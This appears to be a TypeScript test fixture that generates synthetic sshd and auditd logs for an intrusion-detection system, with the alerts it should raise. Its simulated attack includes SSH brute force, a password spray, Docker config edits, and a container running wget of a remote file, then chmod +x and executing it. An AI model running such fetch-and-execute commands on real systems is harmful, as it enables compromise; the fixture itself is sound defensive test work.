import { AuditLines } from "./audit-lines.ts";

/** An hour of sshd's and auditd's logs, and what it must raise. */
export interface SshWindow {
  readonly audit: Buffer;
  readonly sshd: Buffer;
  readonly lines: number;
  /** So much of each log, from its beginning, is quiet. */
  readonly quietShare: number;
  /** Titles with counts, `SSH brute force ×24`. */
  readonly raises: readonly string[];
}

const START_MS = Date.UTC(2026, 10, 24, 9, 0, 0);
const CONTAINER = "c0ffee".repeat(11).slice(0, 64);
const CAROL = { user: "carol", uid: 1003, ses: 17 };
const DAVE = { user: "dave", uid: 1004, ses: 18 };
const ALICE = { user: "alice", uid: 1001, ses: 12 };

interface Entry {
  readonly atMs: number;
  readonly log: "audit" | "sshd";
  readonly write: () => string;
}

/**
 * One address tries passwords for long, in two bursts, and gets in; one sprays; one stays below every threshold. A
 * session changes Docker's configuration soon after its login, another one late. In a container something is
 * downloaded, made executable and run.
 */
export function sshWindow(): SshWindow {
  const entries: Entry[] = [];
  let now = START_MS;
  const lines = new AuditLines(() => now);
  const at = (second: number, log: Entry["log"], write: () => string): void => {
    entries.push({ atMs: START_MS + second * 1000, log, write });
  };
  const sshd = (second: number, message: string): void =>
    at(second, "sshd", () => `${new Date(now).toISOString()} lab sshd[${5000 + second}]: ${message}\n`);
  const failed = (second: number, user: string, address: string): void =>
    sshd(second, `Failed password for ${user} from ${address} port ${20_000 + second} ssh2`);
  const times = (
    count: number,
    from: number,
    step: number,
    act: (second: number, index: number) => void,
  ): void => {
    for (let index = 0; index < count; index += 1) act(from + index * step, index);
  };

  // Quiet: nothing but ordinary work.
  times(60, 0, 1, (second) => at(second, "audit", () => lines.noise(ALICE)));
  times(20, 0, 3, (second) =>
    sshd(second, `Connection from 192.0.2.1 port ${30_000 + second} on 192.0.2.2 port 22 rdomain ""`),
  );

  times(24, 120, 10, (second) => failed(second, "root", "192.0.2.10"));
  // Every 17 s eight make 119 s, every 18 s they do not make it.
  times(14, 125, 18, (second) => failed(second, "root", "192.0.2.30"));
  times(9, 700, 14, (second) => failed(second, "carol", "192.0.2.10"));
  sshd(1500, "Accepted password for carol from 192.0.2.10 port 4711 ssh2");
  times(9, 130, 70, (second, index) => failed(second, `user${index}`, "192.0.2.20"));
  times(12, 2000, 15, (second) => failed(second, "root", "192.0.2.40"));

  at(1501, "audit", () => lines.sessionStart(CAROL, "192.0.2.10"));
  at(1560, "audit", () => lines.configEdit(CAROL, "/etc/docker/daemon.json"));
  at(200, "audit", () => lines.sessionStart(DAVE, "192.0.2.7"));
  at(900, "audit", () => lines.configEdit(DAVE, "/etc/docker/late.json"));
  times(8, 1570, 20, (second) =>
    at(second, "audit", () => lines.configEdit(CAROL, "/etc/docker/daemon.json")),
  );

  const shim = "/usr/bin/containerd-shim-runc-v2";
  at(300, "audit", () =>
    lines.exec({ pid: 700, ppid: 1 }, shim, [shim, "-namespace", "moby", "-id", CONTAINER]),
  );
  at(2100, "audit", () =>
    lines.exec({ pid: 701, ppid: 700 }, "/usr/bin/wget", ["wget", "http://192.0.2.99/x"]),
  );
  at(2140, "audit", () => lines.exec({ pid: 702, ppid: 700 }, "/usr/bin/chmod", ["chmod", "+x", "/srv/x"]));
  at(2200, "audit", () => lines.exec({ pid: 703, ppid: 700 }, "/srv/x", ["/srv/x"]));

  times(400, 100, 6, (second) => at(second, "audit", () => lines.noise(ALICE)));
  times(60, 100, 40, (second) => sshd(second, `Connection closed by 192.0.2.1 port ${30_000 + second}`));

  const texts = { audit: "", sshd: "" };
  for (const { atMs, log, write } of entries.toSorted((a, b) => a.atMs - b.atMs)) {
    now = atMs;
    texts[log] += write();
  }
  return {
    audit: Buffer.from(texts.audit, "latin1"),
    sshd: Buffer.from(texts.sshd, "latin1"),
    lines: `${texts.audit}${texts.sshd}`.split("\n").length - 1,
    quietShare: 0.02,
    raises: [
      "SSH brute force ×24",
      "SSH brute force ×9",
      "SSH brute force ×12",
      "SSH login succeeded after brute force ×34",
      "SSH password spray ×9",
      "Docker configuration changed ×9",
      "Docker configuration changed ×1",
      "SSH login followed by a way to root ×10",
      "Downloaded, made executable and run in a container ×3",
    ],
  };
}
